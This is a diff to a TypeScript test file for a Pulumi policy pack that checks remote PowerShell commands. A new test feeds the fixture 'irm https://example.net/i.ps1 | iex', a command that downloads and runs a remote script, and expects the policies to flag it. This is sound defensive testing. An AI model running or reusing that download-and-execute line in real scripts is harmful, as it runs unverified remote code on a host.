@@ -92,6 +92,15 @@ describe("policy pack under @pulumi/pulumi's policy runner", () => {
         expect(await analyze("command:remote:Command", props("none"))).toEqual([]);
     });
 
+    it("reads PowerShell with the grammar and the 5.1 binder at preview time (WebAssembly loaded from the pack)", async () => {
+        const props = { connection: { host: "203.0.113.10", hostKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake" }, create: bootstrapCommand(), stdin: "irm 'https://example.net/i.ps1' | iex\n", logging: "stdout" };
+        const found = await analyze("command:remote:Command", props);
+        expect(found.map((d) => [d.policy, d.message])).toEqual([
+            ["downloads-pinned-sha256", "a download (irm = Invoke-RestMethod) outside Save-NovaVerifiedDownload is not checked against a SHA-256"],
+            ["host-script-allow-list", "runs iex (Invoke-Expression), which the policy refuses: it runs code or changes commands the policy cannot read"],
+        ]);
+    });
+
     it("runs the firewall stack policy on the stack's resources", async () => {
         const resource = (type: string, name: string, props: Record<string, unknown>) => {
             const r = new analyzerPb.AnalyzerResource();
@@ -105,7 +114,7 @@ describe("policy pack under @pulumi/pulumi's policy runner", () => {
         const req = new analyzerPb.AnalyzeStackRequest();
         req.setResourcesList([
             resource("cloudflare:index/zeroTrustTunnelCloudflared:ZeroTrustTunnelCloudflared", "t", { name: "nova-prod" }),
-            resource("command:remote:Command", "fw", { stdin: "New-NetFirewallRule -Name 'x' -RemoteAddress '173.245.48.0/20'\n" }),
+            resource("command:remote:Command", "fw", { stdin: "New-NetFirewallRule -Name 'nova-infra-prod-tcp-8000-in' -Group 'NOVA (nova-infra)' -RemoteAddress '173.245.48.0/20'\n" }),
         ]);
         const found = diagnostics(await call(client!.analyzeStack, req));
         expect(found.map((d) => [d.policy, d.message, d.urn])).toEqual([
